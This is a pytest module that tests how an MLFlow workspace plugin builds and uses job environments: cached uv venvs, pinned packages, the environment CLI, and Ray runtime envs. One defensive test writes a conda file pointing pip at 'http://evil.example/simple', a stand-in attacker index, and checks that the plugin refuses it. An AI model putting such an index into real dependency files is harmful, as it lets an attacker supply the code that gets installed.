"""Jobs in their declared environments, end to end: real local runs in cached venvs built with uv, the
`environment` CLI on a real local workspace, and a curated environment as the pip runtime env of a job
on the shared Ray head. One workspace home (and so one env cache) is shared by the module."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from importlib import metadata
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers import read_artifact
from mlflow import MlflowClient
from mlflow.entities import ViewType
from mlflow.exceptions import MlflowException
from ray_cluster import compute_targets, job_client

from mlflow_workspace_plugin import Workspace
from mlflow_workspace_plugin.cli.main import main as cli_main
from mlflow_workspace_plugin.jobs import load_job, submit_job

pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]


@pytest.fixture(scope="module")
def shared_home(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("env-jobs-workspace")


@pytest.fixture(autouse=True)
def workspace_home(isolated_workspace, shared_home, monkeypatch) -> Path:
    monkeypatch.setenv("MLFLOW_WORKSPACE_HOME", str(shared_home))
    return shared_home


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(text).lstrip(), encoding="utf-8")
    return path


def other_six() -> str:
    try:
        installed = metadata.version("six")
    except metadata.PackageNotFoundError:
        installed = None
    return "1.15.0" if installed == "1.16.0" else "1.16.0"


def pip_list() -> str:
    return subprocess.run([sys.executable, "-m", "pip", "list", "--format=freeze", "--disable-pip-version-check"],
                          capture_output=True, text=True, check=True).stdout


def console(run) -> str:
    client = MlflowClient(run.tracking_uri)
    return read_artifact(client, run.run_id, "user_logs/std_log.txt")


def six_job(folder: Path, command: str, pin: str) -> Path:
    write(folder / "conda.yml", f"""
        name: six-pinned
        dependencies:
          - python=3.11
          - pip
          - pip: ["six=={pin}"]
    """)
    return write(folder / "job.yml", f"""
        command: {command}
        environment: {{image: "mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu20.04:latest", conda_file: conda.yml}}
        experiment_name: env-jobs
    """)


REPORT = """python -c 'import six, sys; print("SIX", six.__version__, sys.prefix)'"""


def test_pip_install_in_the_command_lands_in_the_job_env_never_in_the_users(tmp_path, capfd):
    pin = other_six()
    job_file = six_job(tmp_path, f"pip install --disable-pip-version-check termcolor==2.4.0 && {REPORT} && "
                                 "python -c 'import termcolor; print(\"TERMCOLOR\", termcolor.__file__)'", pin)
    before = pip_list()
    run = submit_job(load_job(job_file))
    assert run.wait(), console(run)
    log = console(run)
    six_line = next(line for line in log.splitlines() if line.startswith("SIX "))
    _, version, prefix = six_line.split()
    assert version == pin and Path(prefix).parent == Path(Workspace.local().local_path) / "envs"
    termcolor_line = next(line for line in log.splitlines() if line.startswith("TERMCOLOR "))
    assert termcolor_line.split()[1].startswith(prefix)
    assert pip_list() == before  # the user's environment is exactly as it was
    err = capfd.readouterr().err
    assert "no Docker engine is reachable" in err and "an environment built from conda_file conda.yml" in err
    tags = MlflowClient(run.tracking_uri).get_run(run.run_id).data.tags
    assert tags["mlflow.project.env"] == "uv" and tags["azureml.job.environment"].startswith("uv: conda_file conda.yml")


def test_env_manager_local_keeps_the_current_environment(tmp_path):
    job_file = six_job(tmp_path, REPORT, other_six())
    run = submit_job(load_job(job_file), env_manager="local")
    assert run.wait()
    line = next(line for line in console(run).splitlines() if line.startswith("SIX "))
    assert line.split()[2] == sys.prefix
    # nothing is resolved either: a name only Azure knows still runs in the current environment
    unknown = write(tmp_path / "unknown.yml", f"command: {REPORT}\nenvironment: azureml:AzureML-gone-0.1@latest\n"
                                              "experiment_name: env-jobs\n")
    assert submit_job(load_job(unknown), env_manager="local").wait()


def test_pins_that_cannot_install_fail_before_the_run_exists_with_the_flag_to_use(tmp_path):
    if sys.version_info[:2] < (3, 11):
        pytest.skip("these pins install on Python 3.10")
    # exact pins are never widened (~= ones are, see test_azure_files): pandas 1.5.3 needs numpy>=1.23.2
    write(tmp_path / "conda.yml", "dependencies: [python=3.10, pandas==1.5.3, numpy==1.22.0]\n")
    job_file = write(tmp_path / "job.yml", "command: echo never\nenvironment: {conda_file: conda.yml}\n"
                                           "experiment_name: env-old-pins\n")
    with pytest.raises(MlflowException) as caught:
        submit_job(load_job(job_file))
    message = caught.value.message
    assert "job.yml: environment: conda_file conda.yml cannot be installed" in message
    assert "No solution found when resolving dependencies" in message and "--env-manager local" in message
    client = MlflowClient(Workspace.local().get_mlflow_tracking_uri())
    assert client.get_experiment_by_name("env-old-pins") is None


def test_registered_environment_create_show_list_and_use(tmp_path):
    pin = other_six()
    write(tmp_path / "env" / "conda.yml", f"dependencies: [python=3.11, {{pip: ['six=={pin}']}}]\n")
    env_yaml = write(tmp_path / "env" / "env.yml", """
        $schema: https://azuremlschemas.azureedge.net/latest/environment.schema.json
        name: team-six
        version: 1
        description: six pinned for the team
        tags: {team: ml}
        image: mcr.microsoft.com/azureml/openmpi4.1.0-ubuntu20.04:latest
        conda_file: conda.yml
    """)
    runner = CliRunner()
    created = runner.invoke(cli_main, ["environment", "create", "-f", str(env_yaml)])
    assert created.exit_code == 0, created.output
    shown = json.loads(created.stdout)
    assert shown["reference"] == "azureml:team-six:1" and shown["conda"]["dependencies"][1] == {"pip": [f"six=={pin}"]}
    again = runner.invoke(cli_main, ["environment", "create", "-f", str(env_yaml)])
    assert again.exit_code == 1 and "Version '1' of environment asset 'team-six' already exists" in again.output
    assert runner.invoke(cli_main, ["environment", "create", "-f", str(env_yaml), "-v", "2"]).exit_code == 0
    listed = runner.invoke(cli_main, ["environment", "list"])
    assert listed.exit_code == 0 and listed.stdout.startswith("azureml:team-six:2\t")
    versions = runner.invoke(cli_main, ["environment", "list", "-n", "team-six"]).stdout.splitlines()
    assert [line.split("\t")[0] for line in versions] == ["azureml:team-six:2", "azureml:team-six:1"]
    latest = json.loads(runner.invoke(cli_main, ["environment", "show", "-n", "team-six", "--label", "latest"]).stdout)
    assert latest["version"] == "2" and latest["tags"] == {"team": "ml"} and latest["conda_file"] == "conda.yml"
    curated = json.loads(runner.invoke(cli_main, ["environment", "show", "-n", "AzureML-lightgbm-3.3"]).stdout)
    assert "lightgbm>=4.6.0" in curated["packages"] and curated["source"].startswith("Azure/azureml-assets@")

    for job_ref in ("azureml:team-six:1", "azureml:team-six@latest"):
        job_file = write(tmp_path / "job" / "job.yml", f"command: {REPORT}\nenvironment: {job_ref}\n"
                                                       "experiment_name: env-registered\n")
        run = submit_job(load_job(job_file))
        assert run.wait(), console(run)
        line = next(line for line in console(run).splitlines() if line.startswith("SIX "))
        assert line.split()[1] == pin


@pytest.mark.parametrize("change, message", [
    ({"name": "AzureML-mine"}, "reserved for Azure's curated environments"),
    ({"conda_file": "../../outside.yml"}, "does not exist"),
    ({"colour": "blue"}, "field 'colour' is not recognised"),
    ({"image": None, "conda_file": None}, "give image, build or conda_file"),
    ({"build": {"path": "ctx", "dockerfile_path": "../../Dockerfile"}}, "must name a file inside build.path"),
])
def test_environment_files_with_mistakes_are_one_error_line(tmp_path, change, message):
    write(tmp_path / "conda.yml", "dependencies: [{pip: [six]}]\n")
    (tmp_path / "ctx").mkdir()
    spec = {"name": "ok-name", "image": "python:3.11", "conda_file": "conda.yml", **change}
    if "build" in change:
        spec.pop("image")
    env_yaml = tmp_path / "env.yml"
    env_yaml.write_text(json.dumps({k: v for k, v in spec.items() if v is not None}))
    result = CliRunner().invoke(cli_main, ["environment", "create", "-f", str(env_yaml)])
    assert result.exit_code == 1 and message in result.output and "Traceback" not in result.output


def test_a_registered_conda_file_with_another_index_is_refused(tmp_path):
    write(tmp_path / "conda.yml", "dependencies: [{pip: ['--index-url http://evil.example/simple', six]}]\n")
    env_yaml = write(tmp_path / "env.yml", "name: evil\nconda_file: conda.yml\n")
    result = CliRunner().invoke(cli_main, ["environment", "create", "-f", str(env_yaml)])
    assert result.exit_code == 1 and "would fetch packages from another host" in result.output


# ------------------------------------------------------------------ Ray
def test_on_ray_a_curated_environments_packages_are_the_jobs_pip_runtime_env(ray_head, tmp_path, monkeypatch):
    pytest.importorskip("ray.job_submission", reason="Ray is not installed (pip install -e '.[ray]')")
    pin = other_six()
    config = tmp_path / "workspace" / "config.json"
    config.parent.mkdir()
    config.write_text(json.dumps({
        "workspace_name": "t", "local_path": str(tmp_path / "workspace" / "store"),
        "compute": compute_targets(ray_head.address),
        "environments": {"sklearn-1.5": {"packages": [f"six=={pin}"], "python": "3.11"}}}))
    monkeypatch.setenv("MLFLOW_WORKSPACE_CONFIG", str(config))
    job_file = write(tmp_path / "job.yml", f"""
        command: {REPORT}
        environment: azureml://registries/azureml/environments/sklearn-1.5/labels/latest
        compute: azureml:cpu-cluster
        experiment_name: env-ray
    """)
    run = submit_job(load_job(job_file))
    assert run.wait()
    client = MlflowClient(run.tracking_uri)
    tags = client.get_run(run.run_id).data.tags
    info = job_client(ray_head).get_job_info(tags["ray.job_id"])
    assert info.runtime_env["pip"]["packages"] == [f"six=={pin}"]
    assert any(line.startswith(f"SIX {pin} ") for line in console(run).splitlines())
    experiments = [e.experiment_id for e in client.search_experiments(view_type=ViewType.ALL)]
    assert len(client.search_runs(experiments)) >= 1
